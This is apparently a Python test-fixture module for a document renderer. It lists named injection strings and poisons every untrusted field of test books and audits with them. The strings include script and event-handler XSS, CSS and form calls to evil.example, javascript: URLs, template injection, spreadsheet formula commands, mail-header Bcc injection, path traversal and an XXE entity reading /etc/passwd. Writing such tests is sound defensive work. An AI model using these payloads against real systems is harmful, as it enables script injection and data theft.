"""What strangers could write where a guide repeats them: one harmful text for each way out of a form.

For every renderer's tests. ``book_of`` puts a text wherever a book holds a stranger's, ``document_of`` wherever an
audit does. A script that ran would set ``window.injected`` or open a dialogue.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import Any, Final

from mailguard.guidebook.blocks import Book, Chart, Imprint, Kind, Labelled, Record, Span, Verbatim
from tests.guidebook.books import every_block

HARMLESS: Final = "harmless"

_RUN = "window.injected=1;alert(1)"

ATTACKS: Final[dict[str, str]] = {
    "script": f"<script>{_RUN}</script>",
    "image": f"<img src=x onerror='{_RUN}'>",
    "out of an attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "out of a single-quoted attribute": f"' onerror='{_RUN}' x='",
    "out of the title": f"</title><script>{_RUN}</script>",
    "out of the style": f"</style><script>{_RUN}</script>",
    "style": "<style>body{background:url(http://evil.example/a)}</style>",
    "style string": '";}@import url(http://evil.example/b);*{background:url(http://evil.example/c)}',
    "style string, line end": '\\";}\n@import "http://evil.example/d";',
    "svg": f"<svg onload='{_RUN}'><script>{_RUN}</script></svg>",
    "out of an svg": f"</text></svg><script>{_RUN}</script>",
    "cdata": f"]]><script>{_RUN}</script><![CDATA[",
    "frame": "<iframe src=http://evil.example/></iframe><object data=http://evil.example/></object>",
    "base": "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "form": "<form action=http://evil.example/><input name=password autofocus></form>",
    "attachment": "<link rel=attachment href=file:///etc/passwd>",
    "comment": "<!-- --><b>",
    "entity": "&lt;script&gt;&#x3c;b&#x3e;&quot;",
    "address that runs": f"javascript:{_RUN}",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "markdown link": f"[click](javascript:{_RUN}) ![](http://evil.example/i.png)",
    "markdown of a page": "# heading\n\n- item\n\n> quote\n\n---\n```\ncode\n```",
    "markdown table": "| a | b |\n|---|---|\n| c | d |",
    "backticks": "` `` ``` ~~~ `x`",
    "autolink": "<http://evil.example> http://evil.example www.evil.example a@evil.example",
    "template": "{{7*7}}{% for x in range(9) %}{{ ''.__class__.__mro__ }}{% endfor %}{# c #}",
    "placeholder": "{domain}{0}{domain.__class__}%(domain)s%s${domain}",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, full-width": "＝1+1",
    "formula, tab": "\t=1+1",
    "mail header": "a\r\nBcc: victim@example.com\r\n\r\n<b>body</b>",
    "mail header, encoded": "=?utf-8?q?a=0D=0ABcc:_victim@example.com?=",
    "bidi override": "\u202egpj.exe\u202c",
    "bidi isolate": "\u2067abc\u2066def",
    "right-to-left letters": "אבג 123 دهو",
    "control": "a\x00b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x85i\x9bj",
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\",
    "zero width": "pay\u200bpal\ufeff\u2060\u00ad",
    "separators": "a\u2028b\u2029c",
    "private use": "\ue000" + "0" + "\ue001",
    "half a character": "\ud800a\udfff",
    "no character": "\ufffe\uffff",
    "emoji": "👩\u200d⚕️🏥🇯🇵",
    "rare kanji": "𠮷田・髙橋・﨑",
    "combining": "a" + "\u0301" * 300,
    "long": "x" * 20_000,
    "long words": "あ" * 5_000,
    "empty": "",
    "blank": "   ",
    "path": "../../../../etc/passwd",
    "pdf string": ") Tj ET Q (a\\) /JS (app.alert(1)) /S /JavaScript",
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}
"""Names of attacks, and the texts."""


def book_of(attack: str, language: str = "ja") -> Book:
    """A book with every kind of block, where each stranger's text is the attack."""
    book = every_block(language, imprint=Imprint(attack or "-", (attack,), (attack,)))
    book = replace(book, domain=attack, number=attack or "-", parts=_poisoned(book.parts, attack))
    return replace(book, notice=(Span(attack, Kind.FACT), Span("resolver", Kind.LINK, attack)))


def _poisoned(value: Any, attack: str) -> Any:
    match value:
        case Span(kind=Kind.FACT | Kind.CODE):
            return replace(value, text=attack)
        case tuple():
            return tuple(_poisoned(item, attack) for item in value)
        case Verbatim():
            return Verbatim(attack)
        case Record():
            inner = {name: _poisoned(getattr(value, name), attack) for name in ("place", "before", "after", "split")}
            return replace(value, name=attack, rrtype=attack, qr=attack, qr_label=(Span(attack, Kind.FACT),), **inner)
        case Labelled():
            return Labelled((Span(attack, Kind.FACT),), (attack, attack))
        case Chart():
            rows = tuple(replace(row, label=(Span(attack, Kind.FACT),)) for row in value.series)
            title = (Span(attack, Kind.FACT),)
            return replace(
                value,
                title=title,
                alternative=title,
                labels=(attack,) * len(value.labels),
                series=rows,
                numbers=_poisoned(value.numbers, attack),
            )
        case _ if is_dataclass(value) and not isinstance(value, type | Span):
            return replace(value, **{f.name: _poisoned(getattr(value, f.name), attack) for f in fields(value)})
        case _:
            return value


def poisoned_document(document: dict[str, Any], attack: str) -> dict[str, Any]:
    """An audit in which whatever somebody published is the attack, while our own codes stay what they are."""
    return {**_leaves(document, lambda key: key in _PUBLISHED, attack), "domain_unicode": attack}


_PUBLISHED: Final = frozenset({"domain_unicode", "record", "uri", "hosts", "at", "seen_in", "before", "after", "facts"})
"""Keys of a document under which texts are strangers' own."""


def _leaves(value: Any, published: Callable[[str], bool], attack: str, inside: bool = False) -> Any:
    if isinstance(value, dict):
        return {key: _leaves(below, published, attack, inside or published(key)) for key, below in value.items()}
    if isinstance(value, list):
        return [_leaves(below, published, attack, inside) for below in value]
    return attack if inside and isinstance(value, str) else value
